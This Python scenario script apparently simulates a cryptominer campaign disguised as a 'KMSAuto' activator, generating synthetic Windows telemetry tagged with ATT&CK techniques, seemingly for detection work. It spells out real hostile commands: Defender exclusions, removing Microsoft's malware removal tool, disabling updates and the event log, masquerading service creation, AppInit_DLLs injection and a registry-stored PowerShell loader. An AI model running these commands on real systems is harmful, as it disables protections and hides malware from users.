"""An activator that brings a miner: Defender exempted, a driver for the processor, a watch service under a stolen name,
updates off, other miners ended, a hiding library for every program. Resembles SilentCryptoMiner and r77 campaigns
(2023-2025)."""
import deeds
from scenery import Desktop

SETTING = {"start": "2024-01-19T20:03:37", "user": "ACER\\Dmytro", "home": "C:\\Users\\Dmytro", "computer": "ACER",
           "os_version": (10, 0, 19044)}
HOME = r"C:\ProgramData\Google\Chrome"
POOL = ("203.0.113.77", 3333)
HOSTS = r"C:\Windows\System32\drivers\etc\hosts"
WINDOWS_NT = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion"


def story(c):
    desktop = Desktop(c)
    c.host(POOL[0], "pool.hashvault.pro")
    desktop.murmur(6)
    sample = c.spawn(desktop.explorer, c.home + r"\Downloads\KMSAuto Lite Portable v1.8.exe", integrity="High",
                     company="MSFree Inc.")
    deeds.begin(c, sample)
    with deeds.told(c, "exempts the profile and its kind of file from Defender", "high", ("T1685", "T1059.001"),
                    (sample, desktop.defender),
                    ("Add-MpPreference", "ExclusionPath", "ExclusionExtension")) as helpers:
        helpers += deeds.command(c, sample,
                                 r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe Add-MpPreference "
                                 r"-ExclusionPath "
                                 "@($env:UserProfile, $env:ProgramData) -ExclusionExtension '.exe' -Force", shell=False)
        key = r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions"
        c.set_value(desktop.defender, key + r"\Extensions\.exe", "REG_DWORD", 0)
        c.set_value(desktop.defender, key + "\\Paths\\" + c.home, "REG_DWORD", 0)
    with deeds.told(c, "uninstalls Microsoft's tool that removes malware", "medium", "T1685", sample,
                    ("wusa", "890830")) as helpers:
        helpers += deeds.command(c, sample, "wusa /uninstall /kb:890830 /quiet /norestart")
    with deeds.told(c, "stops and disables Windows' updates", "medium", ("T1489", "T1685"), sample,
                    ("wuauserv", "UsoSvc")) as helpers:
        for name in ("UsoSvc", "WaaSMedicSvc", "wuauserv", "bits", "dosvc"):
            helpers += deeds.command(c, sample, r"C:\Windows\System32\sc.exe stop " + name, shell=False)
        helpers += deeds.command(c, sample, r"C:\Windows\System32\sc.exe config wuauserv start= disabled", shell=False)
        c.set_value(desktop.services, deeds.SERVICES + r"\wuauserv\Start", "REG_DWORD", 4)
    with deeds.told(c, "keeps the computer from sleeping", "low", ("T1653", "T1496.001"), sample,
                    ("powercfg", "hibernate-timeout")) as helpers:
        for option in ("hibernate-timeout-ac 0", "hibernate-timeout-dc 0", "standby-timeout-ac 0"):
            helpers += deeds.command(c, sample, r"C:\Windows\System32\powercfg.exe /x -" + option, shell=False)
    with c.behaviour("copies itself to a folder named like a browser's", "medium", ("T1036.005", "T1036"), sample,
                     "updater.exe"):
        c.folder(sample, HOME)
        c.read(sample, sample.image, 900_000, 262144)
        c.drop(sample, HOME + r"\updater.exe", 900_000, 262144)
    with deeds.told(c, "makes a service of the copy", "high", ("T1543.003", "T1036.004"), sample,
                    ("GoogleUpdateTaskMachineQC", "updater.exe")) as helpers:
        helpers += deeds.command(c, sample, r'C:\Windows\System32\sc.exe create "GoogleUpdateTaskMachineQC" binpath= '
                                 r'"C:\ProgramData\Google\Chrome\updater.exe" start= "auto"', shell=False)
        deeds.service(c, desktop, "GoogleUpdateTaskMachineQC", HOME + r"\updater.exe")
    with deeds.told(c, "stops the event log", "high", ("T1685.001", "T1685", "T1489"), sample, "eventlog") as helpers:
        helpers += deeds.command(c, sample, r"C:\Windows\System32\sc.exe stop eventlog", shell=False)
    deeds.command(c, sample, r'C:\Windows\System32\sc.exe start "GoogleUpdateTaskMachineQC"', shell=False)
    with deeds.told(c, "deletes the file it was started from", "medium", "T1070.004", sample,
                    ("KMSAuto", "choice")) as helpers:
        eraser = deeds.tool(c, sample,
                            'C:\\Windows\\System32\\cmd.exe /c choice /C Y /N /D Y /T 3 & Del "%s"' % sample.image)
        helpers.append(eraser)
        c.exit(sample)
        helpers += deeds.command(c, eraser, "choice /C Y /N /D Y /T 3", shell=False)
        c.wait(3)
        c.delete(eraser, sample.image)
    c.exit(eraser)
    keeper = c.spawn(desktop.services, HOME + r"\updater.exe", HOME + r"\updater.exe")
    deeds.begin(c, keeper)
    with c.behaviour("brings a driver that opens the processor to it", "medium",
                     ("T1543.003", "T1068", "T1014", "T1496.001"), keeper,
                     ("WinRing0", "WR64.sys")):
        c.drop(keeper, r"C:\Windows\TEMP\WR64.sys", 14_544)
        deeds.service(c, desktop, "WinRing0_1_2_0", r"\??\C:\Windows\TEMP\WR64.sys", kind=1, start=3)
        system = c.system("System", "")
        c.load(system, r"C:\Windows\TEMP\WR64.sys", 0xFFFFF80420000000)
    with c.behaviour("has a library be loaded by every program", "high", ("T1546.010", "T1014", "T1112"), keeper,
                     ("AppInit_DLLs", "$77svc64.dll")):
        c.drop(keeper, r"C:\Windows\System32\$77svc64.dll", 160_000)
        c.set_value(keeper, WINDOWS_NT + r"\Windows\AppInit_DLLs", "REG_SZ", r"C:\Windows\System32\$77svc64.dll")
        c.set_value(keeper, WINDOWS_NT + r"\Windows\LoadAppInit_DLLs", "REG_DWORD", 1)
        c.set_value(keeper, WINDOWS_NT + r"\Windows\RequireSignedAppInit_DLLs", "REG_DWORD", 0)
    with deeds.told(c, "PowerShell of a command line loads code that the registry holds", "high",
                    ("T1059.001", "T1027.011", "T1620", "T1112"), keeper, ("$77stager", "Reflection.Assembly")) as helpers:
        c.set_value(keeper, r"HKLM\SOFTWARE\$77stager", "REG_BINARY", bytes(range(256)) * 60)
        stager = deeds.tool(c, keeper, 'powershell.exe '
                                       '"[Reflection.Assembly]::Load([Microsoft.Win32.Registry]::LocalMachine.OpenSubkey('
                            "'SOFTWARE').GetValue('$77stager')).EntryPoint.Invoke($Null,$Null)\"")
        c.query(stager, r"HKLM\SOFTWARE\$77stager", "REG_BINARY", bytes(16))
        helpers.append(stager)
        c.exit(stager)
    with c.behaviour("sets a hosts file that leads antivirus makers nowhere", "high", ("T1685", "T1565.001", "T1565"),
                     keeper, "hosts"):
        c.read(keeper, HOSTS, 824)
        c.open(keeper, HOSTS, 0x120116, 5, 3)
        c.write_at(keeper, HOSTS, 0, 4600)
        c.close(keeper, HOSTS)
    with deeds.told(c, "ends other miners", "low", ("T1489", "T1057", "T1668"), keeper,
                    ("taskkill", "xmrig.exe")) as helpers:
        for name in ("xmrig.exe", "NsCpuCNMiner64.exe"):
            helpers += deeds.command(c, keeper, "taskkill /f /im " + name, status=128)
    with deeds.told(c, "starts Windows' own programs without work, and puts its miner into them", "medium",
                    ("T1055.012", "T1055"), keeper,
                    ("conhost.exe", "svchost.exe")) as helpers:
        conhost = deeds.tool(c, keeper, r"C:\Windows\System32\conhost.exe")
        miner = deeds.tool(c, keeper, r"C:\Windows\System32\svchost.exe")
        for process in (conhost, miner):
            deeds.thread(c, process)
        helpers += [conhost, miner]
    desktop.resolve()
    with c.behaviour("mines for a pool", "high", ("T1496.001", "T1496", "T1571"), miner, ("hashvault", "3333")):
        c.net(miner, "Connect", POOL, 50190)
        c.net(miner, "Send", POOL, 50190, 410)
        for number in range(30):
            c.net(miner, "Receive", POOL, 50190, 380)
            if number % 3 == 0:
                c.net(miner, "Send", POOL, 50190, 190)
            c.wait(6)
    desktop.murmur(5)
